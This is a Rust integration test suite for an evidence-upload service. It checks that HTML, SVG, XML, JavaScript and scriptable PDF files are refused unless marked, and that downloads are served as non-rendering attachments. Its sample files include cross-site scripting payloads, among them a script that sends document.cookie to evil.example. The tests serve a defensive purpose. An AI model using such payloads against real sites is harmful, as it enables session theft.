//! Issue 9, finding 13: evidence files with active content (HTML, SVG, XML, XHTML,
//! JavaScript, a PDF with JavaScript) are refused unless the uploader marks them as active
//! content, whatever name or type they arrive with and wherever in the file the markup is; and
//! every download is an attachment with a safe name, `nosniff`, and a type no browser renders
//! for active content. Table-driven over samples, the API and the page form, marked and not.

use crate::common::{hidden, Browser, TestApp};
use crate::evidence_common::new_case;
use libertas_domain::admin::Role;
use libertas_store::testing::backends;
use reqwest::multipart::{Form, Part};
use reqwest::StatusCode;
use serde_json::Value;

/// Files that a browser or the desktop would run or render as active content.
fn active_samples() -> Vec<(&'static str, Vec<u8>)> {
    let late_script = [
        "Statement of the witness, page one.\n"
            .repeat(30)
            .as_bytes(),
        b"<script>fetch('https://evil.example/'+document.cookie)</script>\n",
    ]
    .concat();
    vec![
        ("page.html", b"<!DOCTYPE html><p>hello</p>".to_vec()),
        (
            "page.htm",
            b"  \n<HTML><body onload=\"alert(1)\"></body></HTML>".to_vec(),
        ),
        ("bom.html", "\u{FEFF}<html><b>x</b></html>".as_bytes().to_vec()),
        (
            "logo.svg",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>".to_vec(),
        ),
        (
            "logo2.svg",
            b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>".to_vec(),
        ),
        (
            "data.xml",
            b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><root><a/></root>".to_vec(),
        ),
        (
            "page.xhtml",
            b"<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><body/></html>"
                .to_vec(),
        ),
        // Markup after 512 bytes of innocent text, in a file named like text.
        ("statement.txt", late_script),
        (
            "app.js",
            b"function steal() { fetch('/x?' + document.cookie) }\n".to_vec(),
        ),
        (
            "tool.js",
            b"// helper\nvar a = window.location;\n".to_vec(),
        ),
        (
            "form.pdf",
            b"%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n%%EOF\n"
                .to_vec(),
        ),
    ]
}

async fn api_upload(
    app: &TestApp,
    token: &str,
    case: &str,
    name: &str,
    bytes: Vec<u8>,
    marked: bool,
) -> (StatusCode, Value) {
    let mut form = Form::new().part("file", Part::bytes(bytes).file_name(name.to_owned()));
    if marked {
        form = form.text("active_content", "true");
    }
    let res = app
        .http
        .post(format!("{}/api/v1/cases/{case}/evidence", app.base))
        .bearer_auth(token)
        .multipart(form)
        .send()
        .await
        .unwrap();
    let s = res.status();
    (s, res.json().await.unwrap_or(Value::Null))
}

async fn page_upload(
    b: &Browser,
    csrf: &str,
    case: &str,
    name: &str,
    bytes: Vec<u8>,
    marked: bool,
) -> (StatusCode, String) {
    let mut form = Form::new().text("csrf", csrf.to_owned());
    if marked {
        form = form.text("active_content", "true");
    }
    let form = form.part("file", Part::bytes(bytes).file_name(name.to_owned()));
    let res = b
        .http
        .post(format!("{}/cases/{case}/evidence", b.base))
        .header(
            "cookie",
            b.cookies
                .iter()
                .map(|(k, v)| format!("{k}={v}"))
                .collect::<Vec<_>>()
                .join("; "),
        )
        .header("origin", b.base.clone())
        .multipart(form)
        .send()
        .await
        .unwrap();
    let loc = res
        .headers()
        .get("location")
        .map(|l| l.to_str().unwrap().to_owned())
        .unwrap_or_default();
    (res.status(), loc)
}

/// Downloads an evidence file: status, content type, content disposition, nosniff.
async fn download(
    app: &TestApp,
    token: &str,
    case: &str,
    eid: &str,
) -> (StatusCode, String, String, String, Vec<u8>) {
    let res = app
        .http
        .get(format!(
            "{}/api/v1/cases/{case}/evidence/{eid}/file",
            app.base
        ))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    let h = res.headers().clone();
    let get = |n: &str| {
        h.get(n)
            .map(|v| v.to_str().unwrap().to_owned())
            .unwrap_or_default()
    };
    (
        res.status(),
        get("content-type"),
        get("content-disposition"),
        get("x-content-type-options"),
        res.bytes().await.unwrap().to_vec(),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn active_content_is_refused_unless_marked_and_never_served_to_render() {
    for backend in backends() {
        let app = TestApp::spawn(backend).await;
        let ana = app.user("North", "ana", Role::Caseworker).await;
        let case = new_case(&app, &ana).await;
        let mut b = Browser::new(&app);
        b.sign_in("ana").await;
        let (_, _, page) = b.get(&format!("/cases/{case}/evidence")).await;
        let csrf = hidden(&page, "csrf");
        assert!(
            page.contains("name=\"active_content\""),
            "the page form offers the mark"
        );
        for (name, bytes) in active_samples() {
            let what = format!("{backend}: {name}");
            // Not marked: refused, naming the field, on both paths; nothing is stored.
            let (s, e) = api_upload(&app, &ana, &case, name, bytes.clone(), false).await;
            assert_eq!(s, StatusCode::BAD_REQUEST, "{what}: {e}");
            assert_eq!(e["error"]["field"], "file", "{what}: {e}");
            let (s, to) = page_upload(&b, &csrf, &case, name, bytes.clone(), false).await;
            assert_eq!(s, StatusCode::SEE_OTHER, "{what}");
            assert!(to.ends_with("?error=active"), "{what}: {to}");
            // Marked: kept as given, as "active".
            let (s, ev) = api_upload(&app, &ana, &case, name, bytes.clone(), true).await;
            assert_eq!(s, StatusCode::CREATED, "{what}: {ev}");
            assert_eq!(ev["media_type"], "active", "{what}");
            let (s, to) = page_upload(&b, &csrf, &case, name, bytes.clone(), true).await;
            assert_eq!(
                (s, to.as_str()),
                (
                    StatusCode::SEE_OTHER,
                    format!("/cases/{case}/evidence").as_str()
                ),
                "{what}"
            );
            // Served as an attachment no browser renders, under a name that opens as text.
            let (s, ctype, disp, nosniff, body) =
                download(&app, &ana, &case, ev["id"].as_str().unwrap()).await;
            assert_eq!(s, StatusCode::OK, "{what}");
            assert_eq!(ctype, "application/octet-stream", "{what}");
            assert!(disp.starts_with("attachment;"), "{what}: {disp}");
            assert!(disp.ends_with(".txt"), "{what}: {disp}");
            assert_eq!(nosniff, "nosniff");
            assert_eq!(body, bytes, "{what}: the file as given");
        }
        let (_, list) = app
            .get(&format!("/api/v1/cases/{case}/evidence"), &ana)
            .await;
        assert_eq!(
            list["evidence"].as_array().unwrap().len(),
            2 * active_samples().len(),
            "{backend}: only the marked uploads were stored"
        );
        app.stop().await;
    }
}

/// Plain text stays text, even with a `<` in it or a web page's name; the download's name gets
/// an extension that matches what the file really is.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn plain_files_stay_plain_and_get_safe_names() {
    for backend in backends() {
        let app = TestApp::spawn(backend).await;
        let ana = app.user("North", "ana", Role::Caseworker).await;
        let case = new_case(&app, &ana).await;
        for (name, bytes, media, ctype, ends) in [
            (
                "notes.txt",
                b"Temperature < 5 and > 2; he said a => b, let it be.\n".to_vec(),
                "text",
                "text/plain; charset=utf-8",
                "notes.txt",
            ),
            (
                "innocent.html",
                b"Just words, no markup at all.\n".to_vec(),
                "text",
                "text/plain; charset=utf-8",
                "innocent.html.txt",
            ),
            (
                "scan.pdf",
                b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n".to_vec(),
                "pdf",
                "application/pdf",
                "scan.pdf",
            ),
            (
                "photo.svg",
                [
                    &[0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A][..],
                    &[0u8; 32],
                ]
                .concat(),
                "png",
                "image/png",
                "photo.svg.png",
            ),
            (
                "a\"b;c.txt",
                b"quotes and a semicolon in a name\n".to_vec(),
                "text",
                "text/plain; charset=utf-8",
                ".txt",
            ),
        ] {
            let what = format!("{backend}: {name}");
            let (s, ev) = api_upload(&app, &ana, &case, name, bytes.clone(), false).await;
            assert_eq!(s, StatusCode::CREATED, "{what}: {ev}");
            assert_eq!(ev["media_type"], media, "{what}");
            let (s, got_type, disp, nosniff, body) =
                download(&app, &ana, &case, ev["id"].as_str().unwrap()).await;
            assert_eq!(s, StatusCode::OK);
            assert_eq!(got_type, ctype, "{what}");
            assert_eq!(nosniff, "nosniff");
            assert!(disp.starts_with("attachment;"), "{what}: {disp}");
            assert!(disp.ends_with(ends), "{what}: {disp}");
            assert!(
                !disp.contains('\r') && !disp.contains('\n'),
                "{what}: {disp}"
            );
            assert_eq!(body, bytes);
        }
        app.stop().await;
    }
}
